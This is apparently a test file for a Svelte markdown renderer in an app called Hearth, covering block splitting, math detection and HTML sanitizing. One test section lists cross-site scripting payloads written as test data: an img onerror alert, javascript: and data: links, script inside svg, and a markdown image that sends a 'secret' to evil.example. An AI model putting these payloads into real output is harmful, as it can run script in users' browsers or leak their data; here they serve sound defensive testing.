import { render, waitFor } from '@testing-library/svelte'
import { describe, expect, test } from 'vitest'
import { cut } from './blocks'
import Markdown from './Markdown.svelte'
import { markdown } from './markdown'
import { sanitize, sanitizeMath } from './sanitize'

const sample = `# Title

Two lines
of one paragraph with a [link][here].

- one
- two

  still two

\`\`\`python title
print(1)

# not a heading
\`\`\`

| a | b |
|---|---|
| 1 | 2 |

> quoted

    indented

[here]: https://example.org/
`

function markupOf(source: string, env = {}): string {
  const box = document.createElement('div')
  box.append(sanitize(markdown.render(source, env)))
  return box.innerHTML
}

describe('cutting', () => {
  test('gives the blocks at the top', () => {
    const kinds = cut(sample).blocks.map((block) => (block.kind === 'code' ? `${block.language}:${block.code}` : block.source.split('\n')[0]))
    expect(kinds).toEqual(['# Title', 'Two lines', '- one', 'python:print(1)\n\n# not a heading\n', '| a | b |', '> quoted', ':indented\n'])
  })

  test('the blocks together are the whole', () => {
    const { blocks, references } = cut(sample)
    const parts = blocks.filter((block) => block.kind === 'markup').map((block) => markupOf(block.source, { references }))
    const whole = markupOf(sample)
    for (const part of parts) expect(whole).toContain(part.trim())
    expect(parts.join('')).toContain('href="https://example.org/"')
  })

  test('finished blocks stay as they are while the text grows', () => {
    let before: string[] = []
    for (let length = 0; length <= sample.length; length += 7) {
      const now = cut(sample.slice(0, length)).blocks.map((block) => JSON.stringify(block))
      // The last one may still change, and with it the one before: a list goes on, a heading gets its underline.
      for (let i = 0; i + 2 < before.length; ++i) expect(now[i]).toBe(before[i])
      before = now
    }
  })
})

describe('formulas', () => {
  const found = (source: string) => {
    const box = document.createElement('div')
    box.append(sanitize(markdown.render(source)))
    return [...box.querySelectorAll('.math')].map((one) => one.textContent)
  }

  test.each([
    ['so $x^2$ and \\(y\\).', ['$x^2$', '\\(y\\)']],
    ['$2x$, $5$ and $3 < x$', ['$2x$', '$5$', '$3 < x$']],
    ['hence $$a$$ here', ['$$a$$']],
    ['So:\n\\[\na\n= b\n- c\n\\]\nDone', ['\\[\na\n= b\n- c\n\\]']],
    ['- item\n  $$\n  x\n  $$\n- next', ['$$\nx\n$$']],
    ['*$a*b$*', ['$a*b$']],
  ])('%s', (source, formulas) => expect(found(source)).toEqual(formulas))

  test.each([
    'It costs $5 and $6', '$5-$7 or $5/$6', 'US$5 and US$6', '$20 million in US$', 'echo $HOME/$USER and $PATH', '`$x$`', '\\$x\\$', '$ x $',
    '```\n$$x$$\n```', 'open $$ only', '$$\n\n$$', '${A}${B}', 'a \\\\(b\\\\)',
  ])('none in %s', (source) => expect(found(source)).toEqual([]))

  test('an unfinished one is text until it is finished, and a block of its own then', () => {
    expect(cut('Thus\n$$\nx').blocks).toHaveLength(1)
    expect(cut('Thus\n$$\nx\n$$\nDone').blocks.map((block) => block.kind === 'markup' && block.source)).toEqual(['Thus', '$$\nx\n$$', 'Done'])
  })

  test('of MathML only what is harmless is let through', () => {
    const box = document.createElement('div')
    box.append(sanitizeMath('<math display="block" style="color:red" onclick="x"><mi href="https://x.example" id="a">b</mi><mtext><img src=x><a href="y">c</a></mtext></math>'))
    expect(box.innerHTML).toBe('<math display="block"><mi>b</mi><mtext>c</mtext></math>')
  })
})

test('a list begins where its writer began it', () => {
  expect(markupOf('3. three\n4. four')).toContain('<ol start="3">')
})

describe('what a model writes', () => {
  test.each([
    ['<img src=x onerror=alert(1)>', /<img/],
    ['![x](https://evil.example/?q=secret)', /<img/],
    ['[x](javascript:alert(1))', /href/],
    ['[x](data:text/html,hi)', /href/],
    ['[x](vbscript:x)', /href/],
    ['<svg><script>alert(1)</script></svg>', /<(svg|script)/],
    ['<style>*{display:none}</style>', /<style/],
    ['<form action=/x><input name=a></form>', /<(form|input)/],
  ])('%s does nothing', (source, harmful) => {
    expect(markupOf(source)).not.toMatch(harmful)
  })

  test('raw markup is cleaned even where it was not escaped', () => {
    const box = document.createElement('div')
    box.append(sanitize('<p style="x" onclick="y" id="z">a<iframe src=x></iframe><img src=x></p><math><mtext>b</mtext></math>'))
    expect(box.innerHTML).not.toMatch(/style|onclick|id=|iframe|img|math/)
  })

  test('links open beside Hearth and say where they lead', () => {
    const link = markupOf('[x](https://example.org/a)')
    expect(link).toContain('target="_blank"')
    expect(link).toContain('rel="noopener noreferrer"')
    expect(link).toContain('title="https://example.org/a"')
  })
})

test('while a text grows, only its last block is drawn anew', async () => {
  const start = '# Title\n\n```js\nconst one = 1\n```\n\nThe be'
  const { container, rerender } = render(Markdown, { text: start, open: true })
  const coloured = await waitFor(() => {
    const found = container.querySelector('.hljs-keyword')
    expect(found).not.toBeNull()
    return found
  })
  const title = container.querySelector('h1')
  await rerender({ text: `${start}ginning`, open: true })
  expect(container.textContent).toContain('The beginning')
  expect(container.querySelector('h1')).toBe(title)
  expect(container.querySelector('.hljs-keyword')).toBe(coloured)
})
